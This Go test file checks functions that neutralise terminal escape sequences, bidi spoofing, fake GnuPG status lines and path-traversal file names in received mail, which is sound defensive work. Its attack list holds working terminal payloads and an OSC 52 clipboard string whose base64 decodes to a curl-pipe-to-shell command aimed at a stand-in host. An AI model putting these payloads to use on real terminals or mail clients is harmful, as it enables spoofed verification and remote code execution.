package message

import (
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// requireTerminalSafe fails unless s can be written to a terminal: valid
// UTF-8, no control character (C0, DEL, C1) but \n and \t (and not those
// either when oneLine), no bidi control, no line or paragraph separator.
// It uses the unicode tables as an oracle independent of sanitize.go.
func requireTerminalSafe(t testing.TB, what, s string, oneLine bool) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Fatalf("%s: invalid UTF-8 in %q", what, s)
	}
	for i, r := range s {
		ok := true
		switch {
		case r == '\n' || r == '\t':
			ok = !oneLine
		case unicode.IsControl(r), unicode.Is(unicode.Bidi_Control, r), r == '\u2028', r == '\u2029':
			ok = false
		}
		if !ok {
			t.Fatalf("%s: %U at byte %d reaches the terminal: %q", what, r, i, s)
		}
	}
}

// terminalAttacks are strings a sender can put in a body, a header field or
// a file name to attack the terminal or the reader (S16, S24, S25).
var terminalAttacks = []struct{ name, s string }{
	{"CSI colour", "\x1b[31mALERT\x1b[0m"},
	{"CSI clear screen and home", "\x1b[2J\x1b[H"},
	{"CSI cursor up over the status line", "body\x1b[5A\x1b[2K✔ Good signature from alice@example.org"},
	{"OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\https://bank.example/\x1b]8;;\x1b\\"},
	{"OSC 52 clipboard write", "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07"},
	{"OSC 0 window title", "\x1b]0;securemail: verified\x07"},
	{"DCS request", "\x1bP+q544e\x1b\\"},
	{"C1 CSI U+009B", "\u009b31mred\u009b0m"},
	{"raw 8-bit CSI byte", "\x9b31mred"},
	{"C1 OSC, NEL, RI", "\u009d0;t\u009c\u0085\u008d"},
	{"RLO in a file name", "invoice\u202efdp.exe"},
	{"bidi isolates and marks", "\u2066admin\u2069 \u200f\u200e\u061c \u202a\u202b\u202c\u202d"},
	{"lone CR overwrites a line", "Your account is fine\rYour account is LOCKED"},
	{"NUL", "a\x00b"},
	{"BEL, BS, VT, FF, DEL", "a\x07\x08\x08\x0b\x0c\x7fz"},
	{"fake GnuPG status line", "x\n[GNUPG:] GOODSIG 0123456789ABCDEF Alice"},
	{"line separator", "a\u2028b\u2029c"},
	{"invalid UTF-8", "\xff\xfe\xc0\xaf\xed\xa0\x80"},
}

func TestSafeText(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"plain ASCII, with punctuation: ~!@#$%^&*()", "plain ASCII, with punctuation: ~!@#$%^&*()"},
		{"héllo 日本語 👩‍👩‍👧 \ufffd", "héllo 日本語 👩‍👩‍👧 \ufffd"},
		{"a\tb\nc\n", "a\tb\nc\n"},
		{"a\r\nb\r\n", "a\nb\n"},
		{"a\rb", `a\u000db`},
		{"a\r", `a\u000d`},
		{"\r\r\n", `\u000d` + "\n"},
		{"\x1b[31mred", `\u001b[31mred`},
		{"\x00\x7f", `\u0000\u007f`},
		{"\u0085\u009b", `\u0085\u009b`},
		{"\u202egnp.exe", `\u202egnp.exe`},
		{"a\u2028b", `a\u2028b`},
		{"\xff", "\ufffd"},
		{"a\xe2\x80", "a\ufffd\ufffd"},
		{"literal \\u001b stays", "literal \\u001b stays"},
	} {
		if got := SafeText(c.in); got != c.want {
			t.Errorf("SafeText(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestSafeLine(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{"Re: lunch", "Re: lunch"},
		{"a\nb", `a\u000ab`},
		{"a\tb", `a\u0009b`},
		{"a\r\nb", `a\u000d\u000ab`},
		{"Bob \u202e<moc.evil@bob>", `Bob \u202e<moc.evil@bob>`},
	} {
		if got := SafeLine(c.in); got != c.want {
			t.Errorf("SafeLine(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestSafeFilename(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{"report.pdf", "report.pdf"},
		{"Rapport annuel 2024 – été.pdf", "Rapport annuel 2024 – été.pdf"},
		{"../../.ssh/authorized_keys", "___.._.ssh_authorized_keys"},
		{`..\..\Windows\win.ini`, `___.._Windows_win.ini`},
		{"/etc/passwd", "_etc_passwd"},
		{".bashrc", "_bashrc"},
		{".", "_"},
		{"..", "__"},
		{"", "attachment"},
		{" \t\n ", "attachment"},
		{"  spaced.txt  ", "spaced.txt"},
		{"invoice\u202efdp.exe", "invoice_fdp.exe"},
		{"x\n[GNUPG:] GOODSIG.txt", "x_[GNUPG:] GOODSIG.txt"},
		{"\x1b]52;c;ZXZpbA==\x07.sh", "_]52;c;ZXZpbA==_.sh"},
		{"bad\xffbyte.txt", "bad\ufffdbyte.txt"},
	} {
		if got := SafeFilename(c.in); got != c.want {
			t.Errorf("SafeFilename(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestSafeFilenameLength(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, ext string }{
		{strings.Repeat("a", 300) + ".pdf", ".pdf"},
		{strings.Repeat("é", 150) + ".txt", ".txt"},
		{strings.Repeat("日本", 100) + ".tar.gz", ".gz"},
		{strings.Repeat("b", 300), ""},
		{"a." + strings.Repeat("x", 300), ""}, // an "extension" that long is not kept
	} {
		got := SafeFilename(c.in)
		if len(got) > maxFilenameBytes || !utf8.ValidString(got) || !strings.HasSuffix(got, "…"+c.ext) {
			t.Errorf("SafeFilename(%d bytes) = %q (%d bytes), want at most %d bytes ending in %q",
				len(c.in), got, len(got), maxFilenameBytes, "…"+c.ext)
		}
		if again := SafeFilename(got); again != got {
			t.Errorf("SafeFilename is not idempotent: %q then %q", got, again)
		}
	}
}

func TestSafeTextZeroAllocFastPath(t *testing.T) {
	// Not parallel: AllocsPerRun wants a quiet process.
	var sink string
	for _, s := range []string{
		"Subject: quarterly report",
		"body with\ttabs\nand lines\n",
		"héllo 日本語 👩‍👩‍👧",
		strings.Repeat("a long clean line of text ", 200),
	} {
		for name, f := range map[string]func(string) string{"SafeText": SafeText, "SafeLine": SafeLine, "SafeFilename": SafeFilename} {
			if name != "SafeText" && strings.ContainsAny(s, "\n\t") {
				continue
			}
			if name == "SafeFilename" && len(s) > maxFilenameBytes {
				continue
			}
			if got := f(s); got != s {
				t.Fatalf("%s changed a clean string: %q", name, got)
			}
			if n := testing.AllocsPerRun(100, func() { sink = f(s) }); n != 0 {
				t.Errorf("%s(%.20q…) allocates %v times", name, s, n)
			}
		}
	}
	_ = sink
}

// TestS25_ControlCharactersNeutralised sends every kind of terminal attack
// through each place received text is shown: bodies (text/plain,
// format=flowed, text/html), one-line header fields, and file names, both
// directly and as a parsed message delivers them (RFC 2047 Subject,
// RFC 2231 filename).
func TestS25_ControlCharactersNeutralised(t *testing.T) {
	t.Parallel()
	for _, a := range terminalAttacks {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			requireTerminalSafe(t, "SafeText", SafeText(a.s), false)
			requireTerminalSafe(t, "SafeLine", SafeLine(a.s), true)
			fn := SafeFilename(a.s)
			requireTerminalSafe(t, "SafeFilename", fn, true)
			if strings.ContainsAny(fn, `/\`) || fn[0] == '.' {
				t.Fatalf("SafeFilename(%q) = %q: a path, not a name", a.s, fn)
			}

			for _, body := range []struct{ mediaType, format, s string }{
				{"text/plain", "", "Hello,\n" + a.s + "\nBye\n"},
				{"text/plain", "flowed", "Hello, \n" + a.s + " \nBye\n"},
				{"text/html", "", "<p>Hello,</p><p>" + a.s + "</p><img alt=\"" + a.s + "\"><a href=\"https://x.example/" + a.s + "\">" + a.s + "</a>"},
				{"text/html", "", "<pre>" + a.s + "</pre><textarea>" + a.s + "</textarea>"},
			} {
				r, err := RenderText(body.mediaType, map[string]string{"format": body.format}, []byte(body.s), nil)
				if err != nil {
					t.Fatal(err)
				}
				requireTerminalSafe(t, body.mediaType+" body", r.Text, false)
			}
		})
	}

	t.Run("HTML character references", func(t *testing.T) {
		t.Parallel()
		out, err := HTMLToText(strings.NewReader(`<p>&#27;[2J&#x1b;]52;c;eA==&#7; &#x9b;31m &#x202e;gnp.exe &#0; &#13;x</p>`), nil)
		if err != nil {
			t.Fatal(err)
		}
		requireTerminalSafe(t, "HTMLToText", out, false)
		if !strings.Contains(out, `\u001b[2J`) || !strings.Contains(out, `\u202egnp.exe`) {
			t.Errorf("escapes not shown: %q", out)
		}
	})

	t.Run("parsed message", func(t *testing.T) {
		t.Parallel()
		raw := "From: =?utf-8?q?Alice=1B]8;;https://evil.example/=07?= <alice@example.org>\r\n" +
			"Subject: =?utf-8?b?" + "G1sySgobWzMxbVlvdXIgYWNjb3VudCBpcyBsb2NrZWTigK4=" + "?=\r\n" +
			"MIME-Version: 1.0\r\n" +
			"Content-Type: multipart/mixed; boundary=b\r\n\r\n" +
			"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nline one\rLINE TWO \x1b[8mhidden\x1b[0m\r\n" +
			"--b\r\nContent-Type: application/octet-stream\r\n" +
			"Content-Disposition: attachment; filename*=utf-8''%2E%2E%2F%1B%5B31mreport%E2%80%AEfdp.exe\r\n\r\nMZ\r\n" +
			"--b--\r\n"
		m, err := Parse([]byte(raw), nil)
		if err != nil {
			t.Fatal(err)
		}
		for _, field := range []string{"From", "Subject"} {
			decoded := DecodeText(m.Root.Header.Get(field))
			if !strings.ContainsAny(decoded, "\x1b\u202e") {
				t.Fatalf("%s decoded to %q: the attack did not survive decoding, the test proves nothing", field, decoded)
			}
			requireTerminalSafe(t, field, SafeLine(decoded), true)
		}
		body, attachment := m.Root.Children[0], m.Root.Children[1]
		text, err := m.Text(body)
		if err != nil {
			t.Fatal(err)
		}
		r, err := RenderText(body.MediaType, body.Params, []byte(text), nil)
		if err != nil {
			t.Fatal(err)
		}
		requireTerminalSafe(t, "body", r.Text, false)
		name := attachment.Filename()
		if !strings.Contains(name, "\x1b") {
			t.Fatalf("filename decoded to %q: the attack did not survive decoding", name)
		}
		if got, want := SafeFilename(name), "____[31mreport_fdp.exe"; got != want {
			t.Errorf("SafeFilename(%q) = %q, want %q", name, got, want)
		}
	})
}

// TestS16_DisplayStringsEscaped: a literal-data file name or a user ID
// carrying newlines, a "[GNUPG:]" status line or terminal escapes stays on
// its one line, escaped.
func TestS16_DisplayStringsEscaped(t *testing.T) {
	t.Parallel()
	for _, s := range []string{
		"msg.txt\n[GNUPG:] GOODSIG 0123456789ABCDEF Alice <alice@example.org>",
		"Alice <alice@example.org>\r\n[GNUPG:] VALIDSIG 0123456789ABCDEF",
		"Mallory \x1b[32m✔ verified\x1b[0m <m@example.org>",
	} {
		for name, out := range map[string]string{"SafeLine": SafeLine(s), "SafeFilename": SafeFilename(s)} {
			requireTerminalSafe(t, name, out, true)
			if strings.Contains(out, "\n[GNUPG:]") {
				t.Errorf("%s(%q) = %q starts a status line", name, s, out)
			}
		}
	}
}

// TestS24_BodyCannotMoveTheCursor: a body that tries to draw a fake
// "verified" banner over the status area needs the cursor somewhere other
// than the next line. Every way there (CSI cursor moves and scroll regions,
// ESC 7/8, reverse index, CR, backspace, VT, FF) comes out as visible text,
// so the body only ever adds lines below itself.
func TestS24_BodyCannotMoveTheCursor(t *testing.T) {
	t.Parallel()
	body := "Hi\x1b[1;1H\x1b[2K\x1b[42m ✔ Signature verified: bank@example.org \x1b[0m" +
		"\x1b7\x1b[r\x1bM\u008d\x1b8\x1b[999A\r\x08\x0b\x0c\x1b[?1049h\n"
	for _, mediaType := range []string{"text/plain", "text/html"} {
		r, err := RenderText(mediaType, nil, []byte(body), nil)
		if err != nil {
			t.Fatal(err)
		}
		requireTerminalSafe(t, mediaType, r.Text, false)
		if n := strings.Count(r.Text, "\n"); n != 1 {
			t.Errorf("%s: %d lines, want 1: %q", mediaType, n, r.Text)
		}
	}
}

// safeTextSeeds seed FuzzSafeText.
var safeTextSeeds = func() []string {
	s := []string{"", "plain", "héllo 日本語 👩‍👩‍👧", "a\r\nb\rc\n", "\t\n", "x.pdf", "..", ".hidden", strings.Repeat("é", 120) + ".txt"}
	for _, a := range terminalAttacks {
		s = append(s, a.s)
	}
	return s
}()

func FuzzSafeText(f *testing.F) {
	for _, s := range safeTextSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		text, line, name := SafeText(s), SafeLine(s), SafeFilename(s)
		requireTerminalSafe(t, "SafeText", text, false)
		requireTerminalSafe(t, "SafeLine", line, true)
		requireTerminalSafe(t, "SafeFilename", name, true)

		// A body keeps its lines: none added, none removed.
		if got, want := strings.Count(text, "\n"), strings.Count(s, "\n"); got != want {
			t.Fatalf("SafeText(%q) has %d newlines, input %d", s, got, want)
		}
		// Clean input is left alone.
		if utf8.ValidString(s) && strings.IndexFunc(s, func(r rune) bool {
			return r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028' || r == '\u2029')
		}) < 0 && !strings.Contains(s, "\r") && text != s {
			t.Fatalf("SafeText changed clean %q to %q", s, text)
		}
		if name == "" || name[0] == '.' || strings.ContainsAny(name, `/\`) || len(name) > maxFilenameBytes {
			t.Fatalf("SafeFilename(%q) = %q", s, name)
		}
		for fn, out := range map[string]string{"SafeText": text, "SafeLine": line, "SafeFilename": name} {
			f := map[string]func(string) string{"SafeText": SafeText, "SafeLine": SafeLine, "SafeFilename": SafeFilename}[fn]
			if again := f(out); again != out {
				t.Fatalf("%s not idempotent: %q -> %q -> %q", fn, s, out, again)
			}
		}
	})
}

func TestSafeTextFuzzSeedsNotEmpty(t *testing.T) {
	if len(safeTextSeeds) < len(terminalAttacks) {
		t.Fatalf("FuzzSafeText has %d seeds", len(safeTextSeeds))
	}
}

func BenchmarkSafeText(b *testing.B) {
	clean := strings.Repeat("A clean line of a message body, with ünïcödé.\n", 1000)
	dirty := strings.Repeat("A line with \x1b[31mcolour\x1b[0m and a lone \r.\r\n", 1000)
	for name, s := range map[string]string{"clean": clean, "escapes": dirty} {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(s)))
			b.ReportAllocs()
			for b.Loop() {
				SafeText(s)
			}
		})
	}
}

func ExampleSafeLine() {
	subject := "Invoice \x1b]8;;https://evil.example/\x07paid\x1b]8;;\x07\n[GNUPG:] GOODSIG"
	fmt.Println(SafeLine(subject))
	// Output: Invoice \u001b]8;;https://evil.example/\u0007paid\u001b]8;;\u0007\u000a[GNUPG:] GOODSIG
}

func ExampleSafeFilename() {
	fmt.Println(SafeFilename("../invoice\u202efdp.exe"))
	// Output: ___invoice_fdp.exe
}
